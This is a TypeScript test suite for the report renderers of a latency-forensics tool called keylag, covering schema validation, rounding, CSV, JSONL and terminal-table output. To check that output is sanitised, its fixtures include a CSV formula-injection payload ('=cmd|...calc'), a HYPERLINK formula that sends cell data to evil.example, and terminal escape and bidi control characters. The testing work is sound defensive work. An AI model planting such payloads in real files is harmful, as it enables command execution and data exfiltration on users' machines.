import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { renderers, type RenderOptions } from '../src/report/index.js';
import { CSV_COLUMNS, renderCsv } from '../src/report/csv.js';
import { SCHEMA_ID, SCHEMA_VERSION, renderJson, renderJsonl, roundMs, roundSig, selectAccounts } from '../src/report/json.js';
import { displayWidth, formatQ, renderTable, sparkline, wrapText } from '../src/report/table.js';
import { FORMULA_SITE, HOSTILE_NAME, SCRIPT_NAME, sampleReport } from './helpers/sample-report.js';

const schema = JSON.parse(readFileSync(new URL('../../schema/report.schema.json', import.meta.url), 'utf8')) as Record<string, unknown>;

function makeAjv(): Ajv2020 {
  // Strict in every respect, so the schema itself stays lint-clean.
  const ajv = new Ajv2020({ strict: true, strictTypes: true, strictTuples: true, strictRequired: true, allErrors: true });
  ajv.addSchema(schema);
  return ajv;
}

const ajv = makeAjv();
const validateReport = ajv.getSchema(SCHEMA_ID)!;
const validateAccount = ajv.getSchema(`${SCHEMA_ID}#/$defs/account`)!;
const validateHeader = ajv.getSchema(`${SCHEMA_ID}#/$defs/header`)!;

const PLAIN: RenderOptions = { color: false, top: null };
const ESC = '\u001b';

/** Minimal RFC 4180 parser for the tests: records of fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  assert.equal(field, '', 'CSV ends with a line break');
  return rows;
}

// ---------------------------------------------------------------- registry

test('registry offers table, json, jsonl, csv, md and html', () => {
  assert.deepEqual(Object.keys(renderers).sort(), ['csv', 'html', 'json', 'jsonl', 'md', 'table']);
  for (const render of Object.values(renderers)) {
    const out = render(sampleReport(), PLAIN);
    assert.ok(out.length > 100 && out.endsWith('\n'));
  }
  assert.equal(renderers.json(sampleReport(), PLAIN), renderJson(sampleReport()));
});

test('every renderer is deterministic and does not mutate the report', () => {
  for (const render of Object.values(renderers)) {
    const r = sampleReport();
    const before = JSON.stringify(r);
    assert.equal(render(r, PLAIN), render(sampleReport(), PLAIN));
    assert.equal(JSON.stringify(r), before);
  }
});

// ---------------------------------------------------------------- json

test('json: schema $id and header.schemaVersion carry the same version', () => {
  assert.equal(SCHEMA_VERSION, '1.0.0');
  assert.equal(schema.$id, SCHEMA_ID);
  assert.ok(SCHEMA_ID.includes('/1.0.0/'));
  assert.equal(schema.$schema, 'https://json-schema.org/draft/2020-12/schema');
  assert.equal(sampleReport().header.schemaVersion, SCHEMA_VERSION);
});

test('json: parses, validates against the schema, 2-space indent, trailing newline', () => {
  const text = renderJson(sampleReport());
  assert.ok(text.endsWith('}\n'));
  assert.ok(text.startsWith('{\n  "header": {\n    "tool": "keylag",\n    "version": "0.1.0",\n    "schemaVersion": "1.0.0",'));
  const parsed = JSON.parse(text);
  const ok = validateReport(parsed);
  assert.equal(ok, true, JSON.stringify(validateReport.errors, null, 2));
  assert.equal(parsed.accounts.length, 11);
  assert.deepEqual(parsed.summary, { accounts: 11, scored: 10, insufficient: 1, flagged: 1, flagThreshold: 70 });
});

test('json: key order follows types.ts', () => {
  const parsed = JSON.parse(renderJson(sampleReport()));
  assert.deepEqual(Object.keys(parsed), ['header', 'accounts', 'peerGroups', 'physicalModel', 'summary', 'clusters']);
  assert.deepEqual(Object.keys(parsed.accounts[0]), [
    'rank', 'account', 'aliases', 'site', 'peerGroup', 'peerCount', 'inRoster', 'location', 'timeZone', 'physics', 'status',
    'score', 'flagged', 'qValue', 'pValue', 'headlineKind', 'floorMs', 'peerFloorMs', 'strongest', 'coverage',
    'kinds', 'evidence', 'samples',
  ]);
  assert.deepEqual(Object.keys(parsed.accounts[0].evidence[0]), [
    'signal', 'kind', 'observed', 'baseline', 'unit', 'effect', 'effectName', 'interval', 'pValue', 'stats', 'points', 'sentence',
  ]);
  assert.deepEqual(Object.keys(parsed.accounts[0].kinds[0].floorInterval), [
    'confidence', 'sided', 'lowerMs', 'upperMs', 'lowerRank', 'upperRank', 'lowerSource', 'upperSource',
  ]);
  // Optional keys appear only when set.
  const trent = parsed.accounts.find((a: { account: string }) => a.account === 'trent.x');
  assert.equal('lowerSource' in trent.kinds[0].floorInterval, false);
  assert.equal(parsed.header.inputs[2].error, 'no account column found (tried user, username, account, upn)');
  assert.equal('error' in parsed.header.inputs[0], false);
});

test('json: rounding: ms to 3 decimals, other values to 6 significant digits, integers exact', () => {
  const parsed = JSON.parse(renderJson(sampleReport()));
  const m = parsed.accounts[0];
  assert.equal(m.account, 'mallory.k');
  assert.equal(m.floorMs, 118.046); // 118.04567
  assert.equal(m.peerFloorMs, 27.431); // 27.4312
  assert.equal(m.qValue, 0.00213457); // 0.00213456789
  assert.equal(m.pValue, 0.000193877); // 0.000193876543
  assert.equal(m.kinds[0].meanMs, 158.933); // 158.93333
  assert.equal(m.kinds[0].floorInterval.confidence, 0.950382); // 0.9503817749
  assert.equal(m.kinds[0].firstTimeUs, 1772323200000000 + 28_800_000_000 + 120417);
  const [floor, shift] = m.evidence;
  assert.equal(floor.effect, 90.614); // unit ms
  assert.deepEqual(floor.interval, [116.205, 119.815]);
  assert.equal(floor.stats.robustZ, 14.7123); // stats: 6 significant digits
  assert.equal(floor.stats.n, 2310);
  assert.equal(shift.observed, 0.812346); // unit KS D: 6 significant digits
  assert.equal(shift.effect, 0.931235);
  assert.equal(shift.pValue, 1.23457e-300);
  assert.equal(parsed.header.settings.floorQuantile, 0.05);
  assert.equal(roundMs(1.0005), 1); // binary 1.000499...: deterministic, never locale dependent
  // The shortcut for values with at most three decimals gives what toFixed(3) gives, for those and others.
  const rng = (seed: number) => () => ((seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648);
  const next = rng(3);
  for (let i = 0; i < 200_000; i++) {
    const scale = [1, 10, 1e3, 1e6, 1e9, 1e12][i % 6]!;
    // Values with 0 to 5 decimals, and arbitrary doubles.
    const decimals = i % 7;
    const raw = (next() - 0.5) * scale;
    const x = decimals < 6 ? Math.round(raw * 10 ** decimals) / 10 ** decimals : raw;
    const expected = Number(x.toFixed(3));
    assert.equal(roundMs(x), expected === 0 ? 0 : expected, `roundMs(${x})`);
  }
  assert.equal(roundMs(-0.0001), 0);
  assert.equal(Object.is(roundMs(-0.0001), -0), false);
  assert.equal(roundSig(123456789), 123456789);
  assert.equal(roundSig(2 / 3), 0.666667);
});

test('json: strings are exact after parsing, yet the file has no raw control or bidi character', () => {
  const text = renderJson(sampleReport());
  assert.equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(text), false);
  assert.ok(text.includes('"account": "evil\\u001b[31m\\u0007=cmd|\'/c calc\'!A1"'));
  assert.ok(text.includes('\\u009b') && text.includes('\\u202e') && text.includes('\\u2066'));
  const parsed = JSON.parse(text);
  const names = parsed.accounts.map((a: { account: string }) => a.account);
  assert.ok(names.includes(HOSTILE_NAME));
  assert.ok(names.includes(SCRIPT_NAME));
  assert.equal(parsed.header.warnings[0], sampleReport().header.warnings[0]);
});

test('json: accounts ranked first, insufficient-data accounts last; top cuts only the ranked', () => {
  const all = JSON.parse(renderJson(sampleReport()));
  assert.deepEqual(
    all.accounts.map((a: { rank: number | null }) => a.rank),
    [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, null],
  );
  const top2 = JSON.parse(renderJson(sampleReport(), { top: 2 }));
  assert.deepEqual(top2.accounts.map((a: { account: string }) => a.account), ['mallory.k', SCRIPT_NAME, 'trent.x']);
  assert.equal(top2.summary.accounts, 11);
  assert.equal(validateReport(top2), true);
});

test('json: a corrupted report fails validation', () => {
  const base = () => JSON.parse(renderJson(sampleReport()));

  const missing = base();
  delete missing.header.tool;
  assert.equal(validateReport(missing), false);
  assert.ok(validateReport.errors!.some((e) => e.keyword === 'required' && e.params.missingProperty === 'tool'));

  const wrongType = base();
  wrongType.accounts[0].score = '91.4';
  assert.equal(validateReport(wrongType), false);
  assert.ok(validateReport.errors!.some((e) => e.instancePath === '/accounts/0/score' && e.keyword === 'type'));

  const extra = base();
  extra.accounts[0].kinds[0].bogus = 1;
  assert.equal(validateReport(extra), false);

  const badKind = base();
  badKind.accounts[0].headlineKind = 'latency';
  assert.equal(validateReport(badKind), false);

  const badVersion = base();
  badVersion.header.schemaVersion = '2.0.0';
  assert.equal(validateReport(badVersion), false);

  const badStats = base();
  badStats.accounts[0].evidence[0].stats.robustZ = 'high';
  assert.equal(validateReport(badStats), false);

  const badInterval = base();
  badInterval.accounts[0].evidence[0].interval = [1, 2, 3];
  assert.equal(validateReport(badInterval), false);

  const badSha = base();
  badSha.header.inputs[0].sha256 = 'XYZ';
  assert.equal(validateReport(badSha), false);

  // Open maps stay open.
  const openStats = base();
  openStats.accounts[0].evidence[0].stats.newStatistic = null;
  openStats.header.settings.anotherSetting = 'x';
  assert.equal(validateReport(openStats), true);
});

// ---------------------------------------------------------------- jsonl

test('jsonl: header line with summary, then one line per account', () => {
  const text = renderJsonl(sampleReport());
  assert.ok(text.endsWith('\n'));
  const lines = text.slice(0, -1).split('\n');
  assert.equal(lines.length, 1 + 11);
  const head = JSON.parse(lines[0]!);
  assert.equal(head.type, 'header');
  assert.equal(Object.keys(head)[0], 'type');
  assert.equal(head.tool, 'keylag');
  assert.deepEqual(head.summary, { accounts: 11, scored: 10, insufficient: 1, flagged: 1, flagThreshold: 70 });
  const { type: _t, summary: _s, ...headerOnly } = head;
  assert.equal(validateHeader(headerOnly), true, JSON.stringify(validateHeader.errors));
  const accounts = lines.slice(1).map((l) => JSON.parse(l));
  assert.deepEqual(accounts.map((a) => a.type), Array(11).fill('account'));
  assert.equal(accounts[0].account, 'mallory.k');
  assert.equal(accounts[0].floorMs, 118.046);
  assert.equal(accounts[10].account, 'trent.x');
  for (const a of accounts) {
    const { type: _type, ...rest } = a;
    assert.equal(validateAccount(rest), true, JSON.stringify(validateAccount.errors));
  }
  assert.equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(text), false);
});

test('jsonl: top limits account lines, header still counts all', () => {
  const lines = renderJsonl(sampleReport(), { top: 1 }).trimEnd().split('\n');
  assert.equal(lines.length, 1 + 1 + 1); // header, mallory.k, trent.x
  assert.equal(JSON.parse(lines[0]!).summary.accounts, 11);
  assert.equal(JSON.parse(lines[1]!).account, 'mallory.k');
  assert.equal(JSON.parse(lines[2]!).status, 'insufficient_data');
});

// ---------------------------------------------------------------- csv

test('csv: header row is the exported column list; constant column count; LF and trailing newline', () => {
  const text = renderCsv(sampleReport());
  assert.equal(text.includes('\r'), false);
  assert.ok(text.endsWith('\n'));
  assert.equal(text.split('\n')[0], CSV_COLUMNS.join(','));
  assert.equal(
    CSV_COLUMNS.join(','),
    'rank,account,score,flagged,q_value,status,site,peer_group,peer_count,headline_kind,floor_ms,floor_ci_low_ms,floor_ci_high_ms,peer_floor_ms,median_ms,p95_ms,jitter_ms,n,kinds,strongest_evidence,evidence_points,allowed',
  );
  const rows = parseCsv(text);
  assert.equal(rows.length, 1 + 11);
  for (const row of rows) assert.equal(row.length, CSV_COLUMNS.length);
  // One physical line per record.
  assert.equal(text.split('\n').length, 1 + 11 + 1);
});

test('csv: values of the flagged account', () => {
  const rows = parseCsv(renderCsv(sampleReport()));
  const col = (name: string) => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);
  const m = rows[1]!;
  assert.equal(m[col('rank')], '1');
  assert.equal(m[col('account')], 'mallory.k');
  assert.equal(m[col('score')], '91.4');
  assert.equal(m[col('flagged')], 'true');
  assert.equal(m[col('q_value')], '0.00213457');
  assert.equal(m[col('status')], 'scored');
  assert.equal(m[col('site')], 'nyc-hq');
  assert.equal(m[col('peer_count')], '7');
  assert.equal(m[col('headline_kind')], 'app_rtt');
  assert.equal(m[col('floor_ms')], '118.046');
  assert.equal(m[col('floor_ci_low_ms')], '116.205');
  assert.equal(m[col('floor_ci_high_ms')], '119.815');
  assert.equal(m[col('peer_floor_ms')], '27.431');
  assert.equal(m[col('median_ms')], '146.5');
  assert.equal(m[col('p95_ms')], '231.4');
  assert.equal(m[col('jitter_ms')], '11.2');
  assert.equal(m[col('n')], '2310');
  assert.equal(m[col('kinds')], 'app_rtt:2310;rtt:4512');
  assert.equal(m[col('evidence_points')], 'floor_vs_peers:+62.1;shift_vs_peers:+18.0;relay:+11.3');
  assert.match(m[col('strongest_evidence')]!, /^app_rtt floor 118\.0 ms vs peer floor 27\.4 ms/);
  const trent = rows[rows.length - 1]!;
  assert.equal(trent[col('account')], 'trent.x');
  assert.equal(trent[col('rank')], '');
  assert.equal(trent[col('status')], 'insufficient_data');
  assert.equal(trent[col('floor_ms')], '');
  assert.equal(trent[col('n')], '9');
  assert.equal(trent[col('evidence_points')], '');
});

test('csv: hostile names are neutralised, formula site is prefixed and quoted', () => {
  const text = renderCsv(sampleReport());
  assert.equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(text), false);
  const rows = parseCsv(text);
  const evil = rows.find((r) => r[0] === '3')!;
  assert.equal(evil[1], "evil\\u001b[31m\\u0007=cmd|'/c calc'!A1");
  assert.equal(evil[6], "'" + FORMULA_SITE);
  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`));
  const script = rows.find((r) => r[0] === '2')!;
  assert.equal(script[1], SCRIPT_NAME);
  // No text cell starts with a formula character; numeric cells may start with '-'.
  for (const row of rows.slice(1)) {
    for (const cell of row) {
      if (/^[=+@\t\r]/.test(cell)) assert.fail(`formula cell ${cell}`);
      if (cell.startsWith('-')) assert.match(cell, /^-\d+(\.\d+)?$/);
    }
  }
});

test('csv: top keeps insufficient-data rows after the ranked ones', () => {
  const rows = parseCsv(renderCsv(sampleReport(), { top: 1 }));
  assert.deepEqual(rows.map((r) => r[1]), ['account', 'mallory.k', 'trent.x']);
  assert.equal(renderers.csv(sampleReport(), { color: false, top: 1 }), renderCsv(sampleReport(), { top: 1 }));
});

// ---------------------------------------------------------------- table

test('table: no escape sequences at all when color=false', () => {
  const out = renderTable(sampleReport(), PLAIN);
  assert.equal(out.includes(ESC), false);
  assert.equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(out), false);
});

test('table: colour only as SGR sequences of our own when color=true', () => {
  const out = renderTable(sampleReport(), { color: true, top: null });
  assert.ok(out.includes(`${ESC}[31m`), 'red for the flagged account');
  assert.ok(out.includes(`${ESC}[33m`), 'yellow for the watch-level account');
  // Every ESC starts an SGR sequence: the hostile name's own ESC was not passed through.
  const escapes = out.split(ESC).slice(1);
  assert.ok(escapes.length > 10);
  for (const rest of escapes) assert.match(rest, /^\[\d+(;\d+)*m/);
  assert.equal(out.includes('\u0007'), false);
  // Stripping colour gives the plain rendering.
  assert.equal(out.replace(/\u001b\[\d+(;\d+)*m/g, ''), renderTable(sampleReport(), PLAIN));
});

const WIDE: RenderOptions = { color: false, top: null, width: 200 };

test('table: header block lists inputs, formats, hashes, counts, rejections, roster gaps and warnings', () => {
  const out = renderTable(sampleReport(), WIDE);
  assert.ok(out.startsWith('keylag 0.1.0  latency forensics report (schema 1.0.0)\n'));
  assert.ok(out.includes('exports/wvd-network-2026-03.csv.gz  format avd, time ISO 8601 (UTC, Z suffix), sha256 59a6828bd765fd71…, 48,211 records, 48,102 samples'));
  assert.ok(out.includes('format tshark-fields, time epoch seconds with µs (frame.time_epoch), sha256 a6f53ecb8bd87ffc…, 391,220 records, 20,518 samples'));
  assert.ok(out.includes('note: UserName joined from WVDConnections by CorrelationId'));
  assert.ok(out.includes('exports/old.csv  SKIPPED: no account column found'));
  assert.ok(out.includes('Roster: roster.csv  format roster-csv'));
  assert.ok(out.includes('Rows read: 439,431; samples emitted 68,620, used 67,004'));
  assert.ok(out.includes('Rejected: 109 (value_not_numeric 71, time_unparseable 26, negative_value 12)'));
  assert.ok(out.includes('Excluded: 412 samples (patterns: svc-*, healthcheck)'));
  assert.ok(out.includes('Time window: 2026-03-01T00:00:00.000Z .. (end); 1,204 outside'));
  assert.ok(out.includes('Roster entries with no data (1): heidi.v'));
  assert.ok(out.includes(`Data accounts not in roster (1): ${SCRIPT_NAME}`));
  assert.ok(out.includes('Warnings (2)'));
  assert.ok(out.includes('value "12\\u009b31m" is not a number'));
  assert.ok(out.includes('"Lagos\\u202eSOGAL"'));
});

test('table: ranked table with score, q, floors, sparkline and strongest evidence', () => {
  const out = renderTable(sampleReport(), WIDE);
  assert.ok(out.includes('Ranked accounts (10)'));
  const header = out.split('\n').find((l) => l.includes('strongest evidence'))!;
  for (const h of ['#', 'account', 'score', 'q', 'floor ms', 'peer ms', 'hist']) assert.ok(header.includes(h), h);
  const malloryRow = out.split('\n').find((l) => l.includes('mallory.k') && l.includes('FLAGGED'))!;
  assert.ok(malloryRow, 'mallory.k row');
  assert.match(malloryRow, /│\s+1 │ mallory\.k\s+│ 91\.4 FLAGGED │\s+0\.002 │ 118\.0 app_rtt │\s+27\.4 │ /);
  const spark = sparkline([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 412, 1288, 503, 97, 10]);
  assert.ok(malloryRow.includes(spark), `sparkline ${spark}`);
  assert.ok(malloryRow.includes('app_rtt floor 118.0 ms vs'));
  const scriptRow = out.split('\n').find((l) => l.startsWith('│') && l.includes(SCRIPT_NAME))!;
  assert.match(scriptRow, /56\.3 │\s+0\.041 │\s+31\.2 rtt │\s+24\.9 │/);
  // The hostile name is shown escaped, whole, at this width.
  const evilRow = out.split('\n').find((l) => l.includes('evil\\u001b'))!;
  assert.match(evilRow, /│\s+3 │ evil\\u001b\[31m\\u0007=cmd\|'\/c calc'!A1\s+│\s+12\.5 │/);
});

test('table: insufficient-data section, evidence of flagged accounts, coverage and summary', () => {
  const out = renderTable(sampleReport(), WIDE);
  assert.ok(out.includes('Insufficient data (1 account, not ranked)'));
  assert.ok(out.includes('trent.x: 9 samples (rtt 9). only 9 rtt samples; at least 30 are needed to estimate a floor'));
  assert.ok(out.includes('Evidence for flagged accounts (1)'));
  assert.ok(out.includes('mallory.k  rank 1  score 91.4 FLAGGED  q 0.002  site nyc-hq  compared with nyc-hq (7 peers)'));
  assert.ok(out.includes('   +62.1  floor_vs_peers (app_rtt): app_rtt floor 118.0 ms vs peer floor 27.4 ms'));
  assert.ok(out.includes('   +18.0  shift_vs_peers (app_rtt): app_rtt distribution slower than peers'));
  assert.ok(out.includes('   +11.3  relay (app_rtt): application round trip exceeds'));
  assert.ok(out.includes('  coverage: app_rtt, rtt. Rules out: a client running abroad'));
  // Only the flagged account gets an evidence block.
  assert.equal(out.includes('compared with all'), false);
  assert.ok(out.endsWith('\n\nSummary: 11 accounts; 10 scored, 1 flagged (score >= 70), 1 with insufficient data.\n'));
});

test('table: top limits the ranked rows, header and summary still count all', () => {
  const out = renderTable(sampleReport(), { color: false, top: 2 });
  assert.ok(out.includes('Ranked accounts (top 2 of 10)'));
  assert.ok(out.includes('mallory.k') && out.includes(SCRIPT_NAME));
  assert.equal(out.includes('evil\\u001b'), false);
  assert.equal(out.includes('alice.w'), false);
  assert.ok(out.includes('trent.x: 9 samples'));
  assert.ok(out.includes('Summary: 11 accounts; 10 scored, 1 flagged'));
  assert.ok(out.includes('Rows read: 439,431'));
  const none = renderTable(sampleReport(), { color: false, top: 0 });
  assert.ok(none.includes('Ranked accounts (top 0 of 10)'));
  assert.ok(none.includes('1 more flagged account not shown'));
});

test('table: narrow layout puts the strongest evidence on its own row', () => {
  const out = renderTable(sampleReport(), { color: false, top: null, width: 80 });
  const lines = out.split('\n');
  assert.ok(lines.some((l) => /^│\s+│ > strongest evidence\s+│$/.test(l)));
  const i = lines.findIndex((l) => l.includes('│ mallory.k '));
  assert.match(lines[i]!, /91\.4 FLAGGED/);
  assert.match(lines[i + 2]!, /^│\s+│ > app_rtt floor 118\.0 ms vs peer floor 27\.4 ms/);
  assert.ok(out.includes('evil\\u001b['));
});

test('table: lines fit the width', () => {
  for (const width of [80, 100, 120, 160]) {
    const out = renderTable(sampleReport(), { color: false, top: null, width });
    for (const line of out.split('\n')) assert.ok(displayWidth(line) <= width, `${width}: ${displayWidth(line)} ${line}`);
  }
});

test('table: no accounts at all', () => {
  const r = sampleReport();
  r.accounts = [];
  r.summary = { accounts: 0, scored: 0, insufficient: 0, flagged: 0, flagThreshold: 70 };
  const out = renderTable(r, PLAIN);
  assert.ok(out.includes('No account had enough data to be scored.'));
  assert.ok(out.includes('Summary: 0 accounts; 0 scored, 0 flagged'));
  assert.equal(parseCsv(renderCsv(r)).length, 1);
  assert.equal(renderJsonl(r).split('\n').length, 2);
});

test('table helpers: sparkline, q formatting, wrapping', () => {
  assert.equal(sparkline([0, 1, 2, 3, 4, 5, 6, 7, 8]), ' ▁▂▃▄▅▆▇█');
  assert.equal(sparkline([]), '');
  assert.equal(sparkline([0, 0]), '');
  assert.equal(sparkline(Array(24).fill(1)).length, 12);
  assert.equal(formatQ(null), '-');
  assert.equal(formatQ(0.0004), '<0.001');
  assert.equal(formatQ(0.0412), '0.041');
  assert.deepEqual(wrapText('aaa bbb ccc', 7), ['aaa bbb', 'ccc']);
  assert.deepEqual(wrapText('abcdefghij', 4), ['abcd', 'efgh', 'ij']);
  assert.equal(displayWidth('日本'), 4);
});

test('selectAccounts orders by rank and keeps insufficient-data accounts apart', () => {
  const r = sampleReport();
  r.accounts.reverse();
  const sel = selectAccounts(r, 3);
  assert.deepEqual(sel.ranked.map((a) => a.rank), [1, 2, 3]);
  assert.equal(sel.rankedTotal, 10);
  assert.deepEqual(sel.insufficient.map((a) => a.account), ['trent.x']);
});
